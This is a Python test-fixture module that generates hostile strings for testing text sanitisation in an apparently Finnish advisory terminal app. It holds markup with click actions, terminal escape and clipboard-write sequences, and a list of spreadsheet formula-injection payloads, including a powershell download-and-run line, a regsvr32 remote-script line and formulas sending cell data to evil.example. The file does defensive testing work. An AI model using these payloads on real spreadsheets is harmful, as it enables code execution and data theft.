"""Hostile strings for tests: markup, escape sequences, controls, long lines and mixed scripts.

`hostile_strings(count, seed)` is deterministic: the same seed gives the same list. Every string
has some content left after cleaning, and none holds a valid identity code (those are masked,
which is tested elsewhere). `expected(raw)` is what a screen must show for `raw`: the text as
`clean_text` leaves it, trimmed, and on one line where the place shows one line.
"""

from __future__ import annotations

import random
import re
from collections.abc import Iterable
from typing import Any

from advisor_tui.models.identity_codes import find_hetus
from advisor_tui.models.safe_text import clean_text, single_line

MARKUP = [
    "[bold]",
    "[/bold]",
    "[/]",
    "[b]lihava[/b]",
    "[i]",
    "[red on white]",
    "[reverse]",
    "[blink]",
    "[@click=app.quit]Sulje[/]",
    "[@click=app.exit()]x[/]",
    "[@click=screen.dismiss(True)]ok[/]",
    '[@click="app.bell"]soita[/]',
    "[@click=app.push_screen('help')]apua[/]",
    "[@click=app.switch_mode('reports')]raportti[/]",
    "[link=https://evil.example/?q=1]linkki[/link]",
    "[link='file:///etc/passwd']tiedosto[/link]",
    '[link="javascript:alert(1)"]x[/link]',
    "[$accent]",
    "[$primary on $error]",
    "$primary",
    "[$text-muted]vaalea[/]",
    "\\[escaped]",
    "[[double]]",
    "[",
    "]",
    "[/nonexistent]",
    "[bold",
    "[not a tag ]",
    ":warning:",
    ":smile: :thumbs_up:",
    "{name}",
    "{0}",
    "%s %d",
    "{count!r}",
    "<b>html</b>",
    "&lt;script&gt;",
    "**markdown** _x_ `code`",
    "[bold][italic][underline]sisäkkäin[/underline][/italic][/bold]",
]

ESCAPES = [
    "\x1b[31m",
    "\x1b[0m",
    "\x1b[1;38;5;196m",
    "\x1b[48;2;255;0;0m",
    "\x1b[2J",
    "\x1b[H",
    "\x1b[10;20H",
    "\x1b[?1049h",
    "\x1b[?25l",
    "\x1b[?1000h",
    "\x1b[6n",
    "\x1b[>4;2m",
    "\x1b[2K",
    "\x1b[A",
    "\x9b31m",
    "\x9b2J",
    "\x1b]8;;https://evil.example\x1b\\",
    "\x1b]8;;\x1b\\",
    "\x1b]8;;https://evil.example\x07",
    "\x1b]52;c;ZXZpbCBjbGlwYm9hcmQ=\x07",
    "\x1b]52;p;?\x07",
    "\x1b]0;uusi otsikko\x07",
    "\x1b]2;title\x1b\\",
    "\x9d0;c1 osc\x9c",
    "\x1bP+q544e\x1b\\",
    "\x1b_apc\x1b\\",
    "\x1b^pm\x1b\\",
    "\x1bXsos\x1b\\",
    "\x1b(0",
    "\x1b(B",
    "\x1b7",
    "\x1b8",
    "\x1bc",
    "\x1b#8",
    "\x1bM",
    "\x07",
    "\x1b",
    "\x1b[",
    "\x1b]",
    "\x1b[31",
    "\x1b]0;kesken",
]

C0 = [chr(code) for code in range(0x20) if code not in (0x09, 0x0A)]
C1 = [chr(code) for code in range(0x7F, 0xA0)]
BREAKS = ["\t", "\n", "\r\n", "\r", "\u2028", "\u2029", "\x85", "\x0b", "\x0c"]
SURROGATES = ["\ud800", "\udfff", "\udbff", "\udc00"]

SCRIPTS = [
    "Áhčči ja eadni ságastalle mánáin",
    "Sámegiella: ČčĐđŊŋŠšŦŧŽžÁá",
    "anarâškielâ: Âââ Ääää Čč Đđ",
    "nuõrttsääʹmǩiõll: ǥǥ ǩǩ ʒʒ ǯǯ õõ",
    "Äiti ja isä sekä Åsa",
    "طفل يحتاج إلى مساعدة",
    "\u202eRTL override\u202c",
    "\u200fעברית\u200f",
    "שלום משפחה",
    "孩子和家庭",
    "子ども家庭センター",
    "아이와 가족",
    "e\u0301e\u0300e\u0302 combining",
    "Z\u0351\u0364\u0367a\u0350\u036bl\u0357\u0350g\u0350\u0351o\u0358",
    "👨\u200d👩\u200d👧\u200d👦 perhe",
    "👩🏽\u200d💻 🏳️\u200d🌈 🇫🇮",
    "❤\ufe0f ✔\ufe0e",
    "zero\u200bwidth\u200cjoin\u200d",
    "\ufeffBOM",
    "ﷺ ﷽",
    "𝕳𝖊𝖑𝖑𝖔 𝟘𝟙𝟚",
    "Ребёнок и семья",
    "Παιδί και οικογένεια",
    "बच्चा और परिवार",
    "ลูกและครอบครัว",
    "ᚠᚢᚦᚨᚱᚲ",
    "\u00a0ei-katkeava\u00a0väli\u3000",
]

WORDS = [
    "äiti",
    "isä",
    "lapsi",
    "nuori",
    "neuvola",
    "koulu",
    "takaisinsoitto",
    "verkostotapaaminen",
    "perheneuvola",
    "Kuopio",
    "Sekasin",
    "MLL",
    "arki",
    "huoli",
    "uni",
    "väsymys",
    "=1+1",
    "@SUM(A1)",
    "+358",
    "-2",
    "klo 14.30",
    "2.4.2026",
    ";",
    '"',
    "'",
    "\\",
    "\\n",
    "%",
    "#",
    "&",
    "|",
    "`",
]

# Text a spreadsheet could run as a formula (OWASP "CSV Injection" and its variants).
FORMULA_PAYLOADS = [
    "=1+1",
    "=1+1;A1",
    "=SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll'!''",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Klikkaa")',
    '=HYPERLINK(CONCATENATE("http://x/?",A2:B9),"ok")',
    '=IMPORTXML(CONCAT("http://x/?v=", A1), "//a")',
    '=IMPORTRANGE("https://docs.google.com/x","A1:Z9")',
    '=IMAGE("https://evil.example/pixel.png")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=INFO("system")',
    "-2+3",
    "-1e3",
    "+358401234567",
    "@SUM(A1)",
    "@foo",
    "--1",
    "+-=@",
    "=",
    "+",
    "-",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n@SUM(A1)",
    "\x00=1+1",
    " =1+1",
    "   +cmd|' /C calc'!A0",
    "\u00a0=1+1",
    "\u3000=1+1",
    " \t@SUM(A1)",
    "\uff1d1+1",
    "\uff0bcmd|' /C calc'!A0",
    "\uff0d2+3",
    "\uff20SUM(A1)",
    "=1+1\n",
    "-äiti soitti",
    "@äiti",
    "\x1b[31m=1+1",
]

LONG_LENGTH = 10_000

_FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\u2028\u2029]")


def _atom(rng: random.Random) -> str:
    kind = rng.randrange(9)
    if kind == 0:
        return rng.choice(MARKUP)
    if kind == 1:
        return rng.choice(ESCAPES)
    if kind == 2:
        return rng.choice(C0)
    if kind == 3:
        return rng.choice(C1)
    if kind == 4:
        return rng.choice(BREAKS)
    if kind == 5:
        return rng.choice(SCRIPTS)
    if kind == 6:
        return rng.choice(SURROGATES)
    return rng.choice(WORDS)


def _wrapped(rng: random.Random, inner: str) -> str:
    """Escape sequences and markup around `inner`, as a paste from a terminal might bring."""
    return rng.choice(ESCAPES) + rng.choice(MARKUP[:12]) + inner + "[/]" + rng.choice(ESCAPES)


def _long_line(rng: random.Random, index: int) -> str:
    """A line of about 10,000 characters whose cleaned form is at most 10,000 long."""
    pieces = [f"pitkä rivi {index} ", rng.choice(MARKUP), rng.choice(ESCAPES)]
    shown = sum(len(clean_text(piece)) for piece in pieces)
    while shown < LONG_LENGTH - 200:
        piece = rng.choice(WORDS + SCRIPTS + MARKUP) + " "
        pieces.append(piece)
        shown += len(clean_text(piece))
        if rng.random() < 0.2:
            pieces.append(rng.choice(ESCAPES + C0 + C1))
    return "".join(pieces)


def _seeds() -> list[str]:
    """Every fragment on its own, tagged so that each leaves content behind."""
    fragments = MARKUP + ESCAPES + C0 + C1 + BREAKS + SCRIPTS + SURROGATES
    return [f"x{index} {fragment} y" for index, fragment in enumerate(fragments)]


def _acceptable(text: str) -> bool:
    cleaned = clean_text(text).strip()
    return bool(cleaned) and not find_hetus(cleaned)


def hostile_strings(count: int = 2000, seed: int = 20261123, long_lines: int = 12) -> list[str]:
    """`count` different hostile strings, the same for the same seed."""
    rng = random.Random(seed)
    found: dict[str, None] = {}
    for text in _seeds():
        if _acceptable(text):
            found.setdefault(text)
    for index in range(long_lines):
        found.setdefault(_long_line(rng, index))
    attempt = 0
    while len(found) < count:
        attempt += 1
        atoms = [_atom(rng) for _ in range(rng.randint(1, 6))]
        text = "".join(atoms)
        if rng.random() < 0.25:
            text = _wrapped(rng, text)
        text = f"{text} #{attempt}" if rng.random() < 0.5 else f"#{attempt} {text}"
        if _acceptable(text):
            found.setdefault(text)
    return list(found)[:count]


def expected(raw: str, *, one_line: bool = False) -> str:
    """What a place must show for `raw`: cleaned, trimmed, on one line if the place is a line."""
    cleaned = clean_text(raw).strip()
    return single_line(cleaned) if one_line else cleaned


def fits(raw: str, limit: int) -> bool:
    """Whether the cleaned text fits a field of `limit` characters."""
    return len(clean_text(raw)) <= limit


def has_forbidden(text: str) -> bool:
    """Whether `text` still holds a control character, an escape or a lone surrogate."""
    return bool(_FORBIDDEN.search(text)) or "\x1b" in text


def plain(value: Any) -> str:
    """The plain text of a cell, prompt, visual or string, as a user would read it."""
    if isinstance(value, str):
        return value
    text = getattr(value, "plain", None)
    if isinstance(text, str):
        return text
    return str(value)


def chunks(items: list[str], size: int) -> Iterable[list[str]]:
    for start in range(0, len(items), size):
        yield items[start : start + size]
